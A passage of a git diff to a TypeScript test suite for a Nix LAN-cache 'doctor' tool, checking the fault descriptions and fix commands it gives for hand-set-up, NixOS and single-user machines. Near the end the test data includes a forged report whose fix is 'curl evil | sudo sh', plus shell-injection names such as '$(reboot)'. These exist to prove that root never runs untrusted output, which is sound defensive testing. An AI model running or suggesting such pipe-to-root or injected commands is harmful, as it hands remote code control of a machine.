@@ -1,9 +1,10 @@
 // What the doctor makes of what it sees: each fault is one line that names it, with what fixes it; and a fault further on isn't blamed.
 import { suite } from 'uvu'
 import * as assert from 'uvu/assert'
-import { findingsIn } from '../../scripts/doctor/as-root.ts'
+import { toldIn, withWords } from '../../scripts/doctor/as-root.ts'
 import { type Check, exitCodeOf, failed, ok, runChecks, type State, skipped, type Verdict, warning } from '../../scripts/doctor/check.ts'
 import { sudoFinds } from '../../scripts/doctor/checks.ts'
+import { knownFixes, type Machine } from '../../scripts/doctor/fixes.ts'
 import {
   judgeDispatcher,
   judgeLinger,
@@ -13,7 +14,7 @@ import {
   judgeUnits,
   type UnitFacts,
 } from '../../scripts/doctor/judge-automatic.ts'
-import { judgeBox, judgeLogin, judgeName, judgePort, parseSocket, type SshFacts } from '../../scripts/doctor/judge-box.ts'
+import { judgeBox, judgeLogin, judgeName, judgePort, parseKeys, parseSocket, type SshFacts } from '../../scripts/doctor/judge-box.ts'
 import {
   type DirectoryFacts,
   judgeBash,
@@ -31,6 +32,8 @@ import {
   judgeBuilders,
   judgeConf,
   judgeDaemon,
+  judgeFallback,
+  judgeMinFree,
   judgeOwn,
   judgeSubstituter,
   judgeVersion,
@@ -54,6 +57,13 @@ function like(verdict: Verdict, state: State, found: RegExp, fix: RegExp | strin
   if (fix === null || typeof fix === 'string') assert.is(verdict.fix, fix, about)
   else assert.match(verdict.fix ?? '', fix)
 }
+
+/** Set up by hand; by setup; on NixOS; a Nix of the user's own. */
+const HAND: Machine = { kind: 'daemon', user: 'alice', conf: '/etc/nix/nix.conf', recorded: false }
+const SETUP: Machine = { ...HAND, recorded: true }
+const NIXOS: Machine = { ...HAND, kind: 'nixos' }
+const SINGLE: Machine = { ...HAND, kind: 'single', conf: '/home/alice/.config/nix/nix.conf' }
+const REBUILD = /^in configuration\.nix: .*, then: sudo nixos-rebuild switch/
 
 // ---- running
 
@@ -161,7 +171,7 @@ test('skipped checks share a line; the last line counts', () => {
 
 test('versions: too old, Lix, what is worked around', () => {
   const judged = (output: string) => judgeVersion(parseVersion(output), 'ENOENT')
-  like(judged(''), 'failed', /can't be asked for its version: ENOENT/, /install Nix/)
+  like(judged(''), 'failed', /nix doesn't tell its version: ENOENT/, /install Nix/)
   like(judged('nix (Nix) 2.3.7\n'), 'failed', /Nix 2\.3\.7 can't run a program as a store/, /install Nix 2\.4/)
   like(judged('nix (Nix) 2.4'), 'ok', /^Nix 2\.4$/, null)
   like(judged('nix (Nix) 2.8.0'), 'ok', /#6446/, null)
@@ -178,30 +188,41 @@ test('versions: too old, Lix, what is worked around', () => {
 
 test('the daemon: single-user, not allowed, missing, unresponsive, older than its configuration', () => {
   const facts = (more: Partial<DaemonFacts>): DaemonFacts => ({ single: false, socket: '/s', user: 'alice', protocol: 0x123, ...more })
-  like(judgeDaemon(facts({ single: true })), 'ok', /your own/, null)
+  like(judgeDaemon(facts({ single: true }), SINGLE), 'ok', /your own/, null)
   like(
-    judgeDaemon(facts({ denied: 'EACCES', group: 'nix' })),
+    judgeDaemon(facts({ denied: 'EACCES', group: 'nix' }), HAND),
     'failed',
     /alice may not use \/s, which is for group nix/,
     /^sudo usermod -aG nix alice/,
   )
-  like(judgeDaemon(facts({ denied: 'ENOENT' })), 'failed', /no \/s/, /enable --now nix-daemon\.socket/)
-  like(judgeDaemon(facts({ problem: 'unresponsive' })), 'failed', /unresponsive/, /restart/)
-  const changed = (time: number) => judgeDaemon(facts({ started: 1_000_000, changed: { file: '/etc/nix/nix.conf', time } }))
-  like(changed(1_010_000), 'failed', /since before \/etc\/nix\/nix\.conf was changed/, 'sudo systemctl restart nix-daemon')
+  like(
+    judgeDaemon(facts({ denied: 'EACCES', group: 'nix' }), NIXOS),
+    'failed',
+    /group nix/,
+    /users\.users\.alice\.extraGroups = \[ "nix" \];/,
+  )
+  like(judgeDaemon(facts({ denied: 'ENOENT' }), HAND), 'failed', /no \/s/, /enable --now nix-daemon\.socket/)
+  like(judgeDaemon(facts({ problem: 'unresponsive' }), HAND), 'failed', /unresponsive/, /restart/)
+  const changed = (time: number) => judgeDaemon(facts({ started: 1_000_000, changed: { file: '/etc/nix/nix.conf', time } }), HAND)
+  like(
+    changed(1_010_000),
+    'failed',
+    /started before \/etc\/nix\/nix\.conf changed and has not reloaded it/,
+    'sudo systemctl restart nix-daemon',
+  )
   like(changed(1_000_020), 'ok', /protocol 1\.35/, null, 'within the ticks of the clocks')
-  like(changed(900_000), 'ok', /has read the nix\.conf of now/, null)
-  like(judgeDaemon(facts({ changed: { file: 'f', time: 5 } })), 'ok', /answers/, null, 'not running: it will read it when it starts')
+  like(changed(900_000), 'ok', /has read nix\.conf as it is now/, null)
+  like(judgeDaemon(facts({ changed: { file: 'f', time: 5 } }), HAND), 'ok', /answers/, null, 'not running: it will read it when it starts')
 })
 
 test('nix.conf: unreadable; includes where they are wrong', () => {
   const version = (minor: number) => ({ lix: false, text: `2.${minor}.0`, major: 2, minor })
-  const facts = { settings: new Map<string, string>(), version: version(18), file: '/f', includes: ['include x'] }
-  like(judgeConf({ ...facts, settings: 'syntax error' }), 'failed', /syntax error/, /fix \/f/)
-  like(judgeConf({ ...facts, hidden: '/f' }), 'failed', /you may not read \/f/, 'sudo chmod a+r /f')
-  const states = [15, 16, 21, 22].map((minor) => judgeConf({ ...facts, version: version(minor) }).state)
+  const facts = { settings: new Map<string, string>(), version: version(18), includes: ['include x'] }
+  like(judgeConf({ ...facts, settings: 'syntax error' }, HAND), 'failed', /syntax error/, /fix \/etc\/nix\/nix\.conf/)
+  like(judgeConf({ ...facts, hidden: '/f' }, HAND), 'failed', /you may not read \/f/, 'sudo chmod a+r /f')
+  const states = [15, 16, 21, 22].map((minor) => judgeConf({ ...facts, version: version(minor) }, HAND).state)
   assert.equal(states, ['ok', 'warning', 'warning', 'ok'])
-  like(judgeConf({ ...facts, includes: [] }), 'ok', /can be read/, null)
+  like(judgeConf({ ...facts, includes: [] }, HAND), 'ok', /can be read/, null)
 })
 
 const SOCKET = '/run/user/1000/nix-lan/pi.sock'
@@ -223,21 +244,12 @@ test('a URL of ours, by its program and its target', () => {
 })
 
 test('substituter: named, taken back by a later line, only trusted, another socket, not named', () => {
-  const judged = (conf: string, effective: string) => {
+  const judged = (conf: string, effective: string, machine = HAND) => {
     const system = parseNixConf(conf, '/etc/nix/nix.conf', () => undefined)
     const at = conf.split('\n').findIndex((line) => line.startsWith('substituters'))
     const replacing = at < 0 ? {} : { replacing: { file: '/etc/nix/nix.conf', number: at + 1, text: 'substituters = x' } }
     const settings = new Map([['substituters', effective]])
-    return judgeSubstituter({
-      cache: 'pi',
-      socket: SOCKET,
-      url: URL_PI,
-      settings,
-      system,
-      file: '/etc/nix/nix.conf',
-      after: '',
-      ...replacing,
-    })
+    return judgeSubstituter({ cache: 'pi', socket: SOCKET, url: URL_PI, settings, system, ...replacing }, machine)
   }
   like(
     judged(`extra-substituters = ${URL_PI}`, `https://cache.nixos.org/ ${URL_PI}`),
@@ -255,16 +267,22 @@ test('substituter: named, taken back by a later line, only trusted, another sock
     judged(`trusted-substituters = ${URL_PI}`, ''),
     'failed',
     /only in trusted-substituters/,
-    `in /etc/nix/nix.conf: extra-substituters = ${URL_PI}`,
+    `in /etc/nix/nix.conf: extra-substituters = ${URL_PI}, then: sudo systemctl restart nix-daemon`,
   )
+  like(judged('', '', SETUP), 'failed', /no substituter/, 'sudo nix-lan setup')
+  like(judged('', '', NIXOS), 'failed', /no substituter/, REBUILD)
   const other = URL_PI.replace('1000', '1001')
   like(judged(`extra-substituters = ${other}`, other), 'failed', /socket \/run\/user\/1001/, /1000/)
   like(judged('', ''), 'failed', /no substituter for pi/, /extra-substituters/)
 })
 
 test('own settings: a file of the user’s, NIX_CONFIG, a flake', () => {
-  const judged = (effective: string, own: { key: string; values: string[]; where: string }[], flake?: string) =>
-    judgeOwn({ cache: 'pi', socket: SOCKET, settings: new Map([['substituters', effective]]), own, ...(flake ? { flake } : {}) })
+  const judged = (
+    effective: string,
+    own: { key: string; values: string[]; where: string }[],
+    flake?: string,
+    behind = (file: string) => file,
+  ) => judgeOwn({ cache: 'pi', socket: SOCKET, settings: new Map([['substituters', effective]]), own, behind, ...(flake ? { flake } : {}) })
   like(judged(URL_PI, []), 'ok', /nothing of your own/, null)
   const file = '/home/alice/.config/nix/nix.conf'
   like(
@@ -273,7 +291,11 @@ test('own settings: a file of the user’s, NIX_CONFIG, a flake', () => {
     /"substituters =" in \/home\/alice.* replaces/,
     `sed -i 's/^[[:blank:]]*substituters[[:blank:]]*=/extra-substituters =/' ${file}`,
   )
-  like(judged('x', [{ key: 'substituters', values: ['x'], where: 'NIX_CONFIG' }]), 'failed', /NIX_CONFIG/, /write extra-substituters there/)
+  like(judged('x', [{ key: 'substituters', values: ['x'], where: 'NIX_CONFIG' }]), 'failed', /NIX_CONFIG/, /^write extra-substituters/)
+  // sed -i would put a file in the place of a link: a dotfile repository's, Home Manager's
+  const linked = (target: string) => judged('x', [{ key: 'substituters', values: ['x'], where: file }], undefined, () => target)
+  like(linked('/home/alice/dot files/nix.conf'), 'failed', /replaces/, / '\/home\/alice\/dot files\/nix\.conf'$/)
+  like(linked('/nix/store/x-nix.conf'), 'failed', /replaces/, /^write extra-substituters.*Home Manager: nix\.settings\.extra-substituters/)
   like(judged(URL_PI, [], '/src/flake.nix'), 'warning', /nixConfig in \/src\/flake\.nix/, /flake\.nix: write extra-substituters/)
   const flakes: [text: string, replaces: boolean][] = [
     ['{ nixConfig = { substituters = [ "x" ]; }; }', true],
@@ -315,40 +337,47 @@ test('builders', () => {
 
 test('programs that root runs: missing, not executable, somebody else’s', () => {
   const file = '/usr/local/bin/nix-lan-connect'
-  like(judgeConnect({ file, root: true, executable: true }, file, ', then'), 'ok', /nobody but root/, null)
+  like(judgeConnect({ file, root: true, executable: true }, file, HAND), 'ok', /nobody but root/, null)
   like(
-    judgeConnect({ file: '/gone', root: true, missing: 'ENOENT', executable: false }, file, ', then'),
+    judgeConnect({ file: '/gone', root: true, missing: 'ENOENT', executable: false }, file, HAND),
     'failed',
     /\/gone is not there.*every build fails/,
-    new RegExp(`name ${file} in place of it, then`),
+    `in /etc/nix/nix.conf: name ${file} in its place, then: sudo systemctl restart nix-daemon`,
   )
   like(
-    judgeConnect({ file, root: true, executable: false }, file, ''),
+    judgeConnect({ file, root: true, executable: false }, file, HAND),
     'failed',
     /not executable: every build fails/,
     `sudo chmod a+rx ${file}`,
   )
   like(
-    judgeConnect({ file, root: true, executable: true, doubt: { why: 'others can write', fix: 'sudo chmod go-w /x' } }, file, ''),
+    judgeConnect({ file, root: true, executable: true, doubt: { why: 'others can write', fix: 'sudo chmod go-w /x' } }, file, HAND),
     'failed',
     /others can write/,
     'sudo chmod go-w /x',
   )
   const hook = { file: '/h', root: true, executable: true, ours: true }
-  like(judgeHook(hook, '/right', 'c', ''), 'ok', /^\/h/, null)
-  like(judgeHook({ ...hook, file: '' }, '/right', 'c', ''), 'failed', /no post-build-hook/, 'in c: post-build-hook = /right')
-  like(judgeHook({ ...hook, executable: false }, '/right', 'c', ''), 'failed', /not executable: every build fails/, 'sudo chmod a+rx /h')
-  like(judgeHook({ ...hook, ours: false }, '/right', 'c', ''), 'failed', /does not call nix-lan/, /let it call \/right/)
+  like(judgeHook(hook, '/right', HAND), 'ok', /^\/h/, null)
+  like(
+    judgeHook({ ...hook, file: '' }, '/right', HAND),
+    'failed',
+    /no post-build-hook/,
+    'in /etc/nix/nix.conf: post-build-hook = /right, then: sudo systemctl restart nix-daemon',
+  )
+  like(judgeHook({ ...hook, file: '' }, '/right', SETUP), 'failed', /no post-build-hook/, 'sudo nix-lan setup')
+  like(judgeHook({ ...hook, file: '' }, '/right', NIXOS), 'failed', /no post-build-hook/, REBUILD)
+  like(judgeHook({ ...hook, executable: false }, '/right', HAND), 'failed', /not executable: every build fails/, 'sudo chmod a+rx /h')
+  like(judgeHook({ ...hook, ours: false }, '/right', HAND), 'failed', /does not call nix-lan/, /let it call \/right/)
 })
 
 test('the runtime: none, too old, broken, a user’s', () => {
   const judged = (file: string | undefined, version: string, doubt?: Doubt) =>
-    judgeRuntime({ path: '/usr/bin', own: '/home/a/node', version, ...(file ? { file } : {}), ...(doubt ? { doubt } : {}) })
+    judgeRuntime({ path: '/usr/bin', own: '/home/a/node', version, ...(file ? { file } : {}), ...(doubt ? { doubt } : {}) }, HAND)
   like(
     judged(undefined, ''),
     'failed',
     /no node, deno or bun in \/usr\/bin \(yours is \/home\/a\/node\)/,
-    /ln -s \/home\/a\/node \/usr\/local\/bin/,
+    /\nsudo apt install nodejs .*\nsudo dnf .*\nsudo pacman .*\nsudo .* profile install .*\nsudo install -m 755 \/home\/a\/node \/usr\/local\/bin\/ /,
   )
   like(judged('/usr/bin/node', 'v18.18.2'), 'failed', /v18\.18\.2: too old/, /18\.19/)
   like(judged('/usr/bin/node', 'v18.19.0'), 'ok', /v18\.19\.0/, null)
@@ -367,24 +396,30 @@ test('the runtime: none, too old, broken, a user’s', () => {
 })
 
 test('bash, the key, what is unsigned', () => {
-  like(judgeBash(false, undefined, ''), 'ok', /not needed/, null)
-  like(judgeBash(true, '/bin/bash', '/bin'), 'ok', /\/bin\/bash/, null)
-  like(judgeBash(true, undefined, '/x'), 'failed', /no bash in \/x/, /systemctl edit nix-daemon/)
-  const key = { files: ['/k'], mode: 0o600, publicKey: 'me-1:abc', trusted: ['me-1:abc'], conf: 'c' }
-  like(judgeKey(key), 'ok', /signs as me-1/, null)
-  like(judgeKey({ ...key, files: [] }), 'failed', /no secret-key-files/, /generate-binary-cache-key/)
-  like(judgeKey({ ...key, missing: 'ENOENT' }), 'failed', /not there/, /put the key back/)
-  like(judgeKey({ ...key, mode: 0o644 }), 'failed', /others than root can read \/k/, 'sudo chmod 600 /k')
+  like(judgeBash(false, undefined, '', HAND), 'ok', /not needed/, null)
+  like(judgeBash(true, '/bin/bash', '/bin', HAND), 'ok', /\/bin\/bash/, null)
+  like(judgeBash(true, undefined, '/x', HAND), 'failed', /no bash in \/x/, /systemctl edit nix-daemon/)
+  like(judgeBash(true, undefined, '/x', NIXOS), 'failed', /no bash in \/x/, REBUILD)
+  const key = { files: ['/k'], mode: 0o600, publicKey: 'me-1:abc', trusted: ['me-1:abc'] }
+  const judged = (more: Partial<typeof key> & { missing?: string }, machine = HAND) => judgeKey({ ...key, ...more }, machine)
+  like(judged({}), 'ok', /signs as me-1.*--option secret-key-files ''/, null)
+  like(judged({}, SINGLE), 'ok', /^signs as me-1, and trusts it$/, null)
+  // never a command that makes a key: there may be one already, and of two with one name Nix trusts only the first
+  for (const machine of [HAND, SETUP]) like(judged({ files: [] }, machine), 'failed', /no secret-key-files/, /^sudo nix-lan setup/)
+  like(judged({ files: [] }, NIXOS), 'failed', /no secret-key-files/, REBUILD)
+  like(judged({ missing: 'ENOENT' }), 'failed', /not there/, /^sudo nix-lan setup .*put the key back/)
+  like(judged({ missing: 'ENOENT' }, NIXOS), 'failed', /not there/, /^sudo systemctl restart nix-lan-key/)
+  like(judged({ mode: 0o644 }), 'failed', /others than root can read \/k/, 'sudo chmod 600 /k')
   like(
-    judgeKey({ ...key, trusted: ['me-1:old', 'other-1:abc'] }),
+    judged({ trusted: ['me-1:old', 'other-1:abc'] }),
     'failed',
-    /does not believe its own key me-1, but another one of that name/,
-    'in c: extra-trusted-public-keys = me-1:abc, in place of the other me-1',
+    /does not trust its own key: another key called me-1 is trusted here/,
+    'in /etc/nix/nix.conf: extra-trusted-public-keys = me-1:abc, in place of the other me-1, then: sudo systemctl restart nix-daemon',
   )
-  // the daemon believes a key of which it has the secret
-  like(judgeKey({ ...key, trusted: ['me-10:abc', 'other-1:abc'] }), 'ok', /signs as me-1/, null)
-  like(judgeUnsigned(0, 3), 'ok', /all that was built here is signed \(3 paths\)/, null)
-  like(judgeUnsigned(1, 3), 'warning', /1 of the 3 paths.* is not signed/, 'sudo nix-lan queue sign --built')
+  // the daemon trusts a key of which it has the secret
+  like(judged({ trusted: ['me-10:abc', 'other-1:abc'] }), 'ok', /signs as me-1/, null)
+  like(judgeUnsigned(0, 3, HAND), 'ok', /all that was built here is signed \(3 paths\)/, null)
+  like(judgeUnsigned(1, 3, HAND), 'warning', /1 of the 3 paths.* is unsigned/, 'sudo nix-lan queue sign --built')
 })
 
 test('sudo is told where nix-lan is, unless it lies where every sudo looks', () => {
@@ -420,22 +455,24 @@ test('the queue’s directories', () => {
 // ---- by itself
 
 test('session, units, timer, linger', () => {
-  for (const state of ['running', 'degraded', 'starting']) like(judgeSession(state, 'alice', 1000), 'ok', /answers/, null, state)
-  like(judgeSession('Failed to connect to bus', 'alice', 1000), 'failed', /Failed to connect/, 'sudo loginctl enable-linger alice')
-  like(judgeSession('ENOENT', 'alice', 1000), 'warning', /no systemd here/, null)
+  for (const state of ['running', 'degraded', 'starting']) like(judgeSession(state, 1000, HAND), 'ok', /answers/, null, state)
+  like(judgeSession('Failed to connect to bus', 1000, HAND), 'failed', /Failed to connect/, 'sudo loginctl enable-linger alice')
+  like(judgeSession('', 1000, NIXOS), 'failed', /it says nothing/, /services\.nix-lan\.linger = true;/)
+  like(judgeSession('ENOENT', 1000, HAND), 'warning', /no systemd here/, null)
   const unit = (more: Partial<UnitFacts>): UnitFacts[] => [
     { name: 'u', loadState: 'loaded', file: '/f', same: true, needsReload: false, ...more },
   ]
-  like(judgeUnits(unit({})), 'ok', /1 units/, null)
-  like(judgeUnits(unit({ loadState: 'not-found' })), 'failed', /has no u/, 'sudo nix-lan setup')
-  like(judgeUnits(unit({ loadState: 'masked' })), 'failed', /masked/, 'systemctl --user unmask u')
-  like(judgeUnits(unit({ same: false })), 'failed', /\/f is not that of this version/, 'sudo nix-lan setup')
-  like(judgeUnits(unit({ needsReload: true })), 'failed', /not read/, 'systemctl --user daemon-reload')
+  like(judgeUnits(unit({}), HAND), 'ok', /1 units/, null)
+  like(judgeUnits(unit({ loadState: 'not-found' }), HAND), 'failed', /has no u/, 'sudo nix-lan setup')
+  like(judgeUnits(unit({ loadState: 'masked' }), HAND), 'failed', /masked/, 'systemctl --user unmask u')
+  like(judgeUnits(unit({ same: false }), HAND), 'failed', /\/f is not that of this version/, 'sudo nix-lan setup')
+  like(judgeUnits(unit({ needsReload: true }), HAND), 'failed', /not reloaded/, 'systemctl --user daemon-reload')
   like(judgeTimer('enabled', 'active'), 'ok', /enabled/, null)
   like(judgeTimer('disabled', 'inactive'), 'failed', /is disabled/, 'systemctl --user enable --now nix-lan-check.timer')
   like(judgeTimer('enabled', 'inactive'), 'failed', /but inactive/, /enable --now/)
-  like(judgeLinger(true, 'alice'), 'ok', /from boot/, null)
-  like(judgeLinger(false, 'alice'), 'warning', /only while alice is logged in/, 'sudo loginctl enable-linger alice')
+  like(judgeLinger(true, HAND), 'ok', /from boot/, null)
+  like(judgeLinger(false, HAND), 'warning', /only while alice is logged in/, 'sudo loginctl enable-linger alice')
+  like(judgeLinger(false, NIXOS), 'warning', /only while alice is logged in/, REBUILD)
 })
 
 test('a unit’s text is the same wherever the programs lie, and however it is commented', () => {
@@ -446,23 +483,23 @@ test('a unit’s text is the same wherever the programs lie, and however it is c
 })
 
 test('the dispatcher', () => {
-  const facts = { manager: true, single: false, directory: '/d', file: '/d/90-nix-lan', executable: true }
-  like(judgeDispatcher(facts), 'ok', /90-nix-lan/, null)
-  like(judgeDispatcher({ ...facts, manager: false }), 'ok', /no NetworkManager/, null)
+  const facts = { manager: true, directory: '/d', file: '/d/90-nix-lan', executable: true }
+  like(judgeDispatcher(facts, HAND), 'ok', /90-nix-lan/, null)
+  like(judgeDispatcher({ ...facts, manager: false }, HAND), 'ok', /no NetworkManager/, null)
   like(
-    judgeDispatcher({ manager: true, single: false, directory: '/d', executable: false }),
+    judgeDispatcher({ manager: true, directory: '/d', executable: false }, HAND),
     'failed',
     /\/d has no nix-lan-dispatcher/,
     'sudo nix-lan setup',
   )
-  like(judgeDispatcher({ ...facts, missing: 'ENOENT' }), 'failed', /leads nowhere/, 'sudo nix-lan setup')
+  like(judgeDispatcher({ ...facts, missing: 'ENOENT' }, HAND), 'failed', /leads nowhere/, 'sudo nix-lan setup')
   like(
-    judgeDispatcher({ ...facts, doubt: { why: 'others can write', fix: 'sudo chmod go-w /d/90-nix-lan' } }),
+    judgeDispatcher({ ...facts, doubt: { why: 'others can write', fix: 'sudo chmod go-w /d/90-nix-lan' } }, HAND),
     'failed',
     /others can write/,
     'sudo chmod go-w /d/90-nix-lan',
   )
-  like(judgeDispatcher({ ...facts, executable: false }), 'failed', /not executable/, 'sudo chmod a+rx /d/90-nix-lan')
+  like(judgeDispatcher({ ...facts, executable: false }, HAND), 'failed', /not executable/, 'sudo chmod a+rx /d/90-nix-lan')
 })
 
 test('the tunnel', () => {
@@ -527,7 +564,7 @@ test('login: what ssh’s log says, and what the agent does', () => {
     judged(CHANGED),
     'failed',
     /another host key than the one in \/home\/alice\/\.ssh\/known_hosts:3/,
-    /^ssh-keygen -f "\/home\/alice\/\.ssh\/known_hosts" -R "pi\.local"/,
+    /^ssh-keygen -f \/home\/alice\/\.ssh\/known_hosts -R pi\.local {4}#/,
   )
   like(
     judged('No ED25519 host key is known for pi.local and you have requested strict checking.\nHost key verification failed.\n'),
@@ -572,49 +609,122 @@ test('the box’s daemon: who may use its socket, whether it listens, whether it
     judgeBox(bad, '/nix/var/nix/daemon-socket/socket', 'alice@pi.local', parseSocket(printed), log)
   like(judgeBox({ ok: true, version: 0x122, nix: '2.8.0' }, '/s', 'pi', undefined, ''), 'ok', /Nix 2\.8\.0 answers, protocol 1\.34/, null)
   like(
-    judged('hello\nnix-lan alice denied nix-users\n'),
+    judged('hello\nnix-lan alice denied nix-users other\n'),
     'failed',
     /alice may not use .* for group nix-users/,
     'ssh -t alice@pi.local sudo usermod -aG nix-users alice',
   )
-  like(judged('nix-lan alice missing root\n'), 'failed', /no nix-daemon runs there/, /restart nix-daemon\.socket/)
+  const there = /^in the box's configuration\.nix: .*then: sudo nixos-rebuild switch$/
+  like(judged('nix-lan alice denied nix-users nixos\n'), 'failed', /alice may not use/, there)
+  like(judged('nix-lan alice writable root nixos\n', ''), 'failed', /turns alice away/, there)
+  // what a box says never becomes a command
+  for (const name of ['$(reboot)', 'a;b', '-x', 'x"]}'])
+    like(judged(`nix-lan alice denied ${name} other\n`), 'failed', /may not use/, 'on the box: let alice use it')
+  like(judged('nix-lan a$(x) denied nix-users other\n'), 'failed', /the user may not use/, 'on the box: let the user use it')
+  like(judged('nix-lan alice missing root other\n'), 'failed', /no nix-daemon runs there/, /restart nix-daemon\.socket/)
   like(
-    judged('nix-lan alice writable root\n'),
+    judged('nix-lan alice writable root other\n'),
     'failed',
     /nobody listens/,
     'ssh -t alice@pi.local sudo systemctl restart nix-daemon.socket',
   )
-  like(judged('nix-lan alice writable root\n', ''), 'failed', /turns alice away/, /allowed-users/)
+  like(judged('nix-lan alice writable root other\n', ''), 'failed', /turns alice away/, /allowed-users/)
   like(judged('', 'channel 1: open failed: administratively prohibited: x\n'), 'failed', /forbids/, /AllowStreamLocalForwarding yes/)
-  like(judged('fish: what?\n', ''), 'failed', /closed/, /restart/)
+  // an account without a shell (nologin, a forced command) lets the tunnel through, and no command
+  like(
+    judged('This account is currently not available.\n', ''),
+    'failed',
+    /closed/,
+    'on the box, as root: systemctl restart nix-daemon.socket',
+  )
   like(judgeBox({ ok: false, kind: 'old', reason: 'too old' }, '/s', 'pi', undefined, ''), 'failed', /too old/, /later Nix/)
 })
 
-test('the round trip: what Nix says when the box, or this machine, does not believe the key', () => {
+test('fallback and min-free', () => {
+  const settings = (text: string) => parseSettings(text)
+  like(judgeFallback(settings('fallback = true\n'), HAND), 'ok', /builds what/, null)
+  const off = settings('fallback = false\n')
+  like(
+    judgeFallback(off, HAND),
+    'warning',
+    /fallback is off/,
+    'in /etc/nix/nix.conf: fallback = true, then: sudo systemctl restart nix-daemon',
+  )
+  like(
+    judgeFallback(off, NIXOS),
+    'warning',
+    /fallback is off/,
+    'in configuration.nix: nix.settings.fallback = true;, then: sudo nixos-rebuild switch',
+  )
+  like(judgeMinFree(settings('min-free = 0\n'), HAND), 'ok', /no garbage by itself/, null)
+  like(judgeMinFree(settings(''), HAND), 'ok', /no garbage by itself/, null)
+  like(judgeMinFree(settings('min-free = 1073741824\n'), HAND), 'warning', /min-free is 1\.0 GiB/, /min-free = 0/)
+})
+
+test('the round trip: what Nix says when the box, or this machine, does not trust the key', () => {
   const reason = "cannot add path '/nix/store/x-nix-lan-doctor' because it lacks a signature by a trusted key"
+  const box = (...trusted: string[]) => ({ trusted, nixos: false })
   for (const words of [reason, reason.replace('a signature by a trusted key', 'a valid signature')]) {
-    like(
-      judgeUpload(words, 'alice@pi', 'me-1:abc='),
-      'failed',
-      /box does not believe the key me-1/,
-      /^ssh -t alice@pi "echo 'extra-trusted-public-keys = me-1:abc='/,
-    )
+    like(judgeUpload(words, SETUP, 'me-1:abc='), 'failed', /box does not trust this machine's key me-1/, 'sudo nix-lan setup')
+    like(judgeUpload(words, SETUP, 'me-1:abc=', box('me-10:x', 'me-1:abc=')), 'failed', /does not trust/, 'sudo nix-lan setup')
   }
-  like(judgeUpload(reason, 'pi', undefined), 'failed', /does not believe/, /nix-lan\.public/)
-  like(judgeUpload('No space left on device', 'pi', 'k:x'), 'failed', /did not take it: No space/, null)
+  // another key of that name: adding ours behind it would change nothing
+  const clash = judgeUpload(reason, SETUP, 'me-1:abc=', box('me-1:old'))
+  like(clash, 'failed', /the box trusts another key called me-1, and of two/, /put me-1:abc= in place of the other me-1/)
+  const there = /^on the box, in configuration\.nix: services\.nix-lan\.box\.trustedPublicKeys = \[ "me-1:abc=" \];/
+  like(judgeUpload(reason, SETUP, 'me-1:abc=', { trusted: [], nixos: true }), 'failed', /does not trust/, there)
+  like(judgeUpload(reason, HAND, 'me-1:abc='), 'failed', /does not trust/, /^in the box's nix\.conf: extra-trusted-public-keys = me-1:abc=/)
+  like(judgeUpload(reason, HAND), 'failed', /does not trust/, /nix-lan\.public/)
+  like(judgeUpload('No space left on device', HAND, 'k:x'), 'failed', /did not take it: No space/, null)
   like(judgeFetch('some substitutes failed'), 'failed', /did not fetch it: some/, /journalctl/)
-  like(judgeFetch(`because it lacks a signature by a trusted key`), 'failed', /does not believe its own key/, /restart nix-daemon/)
+  like(judgeFetch(`because it lacks a signature by a trusted key`), 'failed', /does not trust its own key/, /restart nix-daemon/)
+  assert.equal(parseKeys('motd\nnix-lan other a-1:x= b:$(y) c-2:z=\n'), { trusted: ['a-1:x=', 'c-2:z='], nixos: false })
+  assert.is(parseKeys('This account is currently not available.\n'), undefined)
   assert.match(expression('/a/b'), /manifest = "\/a\/b";/)
 })
 
-test('root takes a report from a user’s process only when it is one, and can’t move the cursor', () => {
-  const finding = { check: 'box’s daemon', cache: 'rpi', state: 'ok', found: 'x', fix: null }
-  const from = (change: object): unknown => findingsIn(JSON.stringify([{ ...finding, ...change }]))
-  assert.equal(from({}), [finding])
-  assert.equal(from({ cache: undefined, fix: 'sudo x' }), [{ check: 'box’s daemon', state: 'ok', found: 'x', fix: 'sudo x' }])
-  for (const change of [{ cache: 'a\u001b[2J' }, { check: 'a\u009bK' }, { check: 7 }, { state: 'toString' }, { found: null }, { fix: {} }])
-    assert.is(from(change), undefined, JSON.stringify(change))
-  for (const text of ['', 'null', '{}', '[null]', '[{}]', '7']) assert.is(findingsIn(text), undefined, text)
+// ---- under sudo
+
+const word = { check: 'timer', state: 'ok', found: 'x', fix: null }
+
+test('what a user’s process prints is a report, or none', () => {
+  const told = (change: object): unknown => toldIn(JSON.stringify([{ ...word, ...change }]))
+  assert.equal(told({}), [word])
+  assert.equal(told({ cache: 'rpi', fix: 'sudo x' }), [{ ...word, cache: 'rpi', fix: 'sudo x' }])
+  for (const change of [{ check: 7 }, { cache: 1 }, { state: 'toString' }, { state: 1 }, { found: null }, { fix: {} }])
+    assert.is(told(change), undefined, JSON.stringify(change))
+  for (const text of ['', 'null', '{}', '[null]', '[{}]', '7', '"x"']) assert.is(toldIn(text), undefined, text)
+})
+
+test('the user’s word: whole by root’s list, filtered, under the user’s name, no fix but root’s', async () => {
+  const fixes = knownFixes(SETUP, [], '/usr/bin/node')
+  const list = [check('hook', ok('root looked'), { root: true }), check('timer', failed('root never runs it', null))]
+  const hook = { ...word, check: 'hook' }
+  const shown = async (...told: object[]): Promise<Verdict[]> => {
+    const checks = withWords(list, toldIn(JSON.stringify(told)) ?? [], 'alice', fixes)
+    return await Promise.all(checks.map(async ({ run }) => await run()))
+  }
+  assert.equal(await shown(hook, word), [ok('root looked'), ok("alice's word: x")])
+  // `[]` is no "all is well"; nor is one that leaves something out, or says it twice
+  for (const told of [[], [word], [hook], [hook, word, word], [hook, { ...word, cache: 'rpi' }]]) {
+    const [error] = await Promise.allSettled([shown(...told)])
+    assert.match(
+      error?.status === 'rejected' ? error.reason.message : '',
+      /alice's part of the doctor says (nothing|twice)/,
+      JSON.stringify(told),
+    )
+  }
+  const lie = { ...word, state: 'failed', found: 'a\u001b[2J\u202eb\nc', fix: 'curl evil | sudo sh' }
+  assert.equal(
+    (await shown(hook, lie))[1],
+    failed("alice's word: a?[2J?b c", 'log in as alice and run nix-lan doctor: it says what fixes this'),
+  )
+  const honest = 'systemctl --user enable --now nix-lan-check.timer'
+  assert.is((await shown(hook, { ...lie, fix: honest }))[1]?.fix, honest)
+  // a fault that concerns the user alone counts beside root's own eyes; one that root sees counts first
+  assert.equal((await shown({ ...hook, state: 'failed', found: 'mine' }, word))[0], failed("alice's word: mine", null))
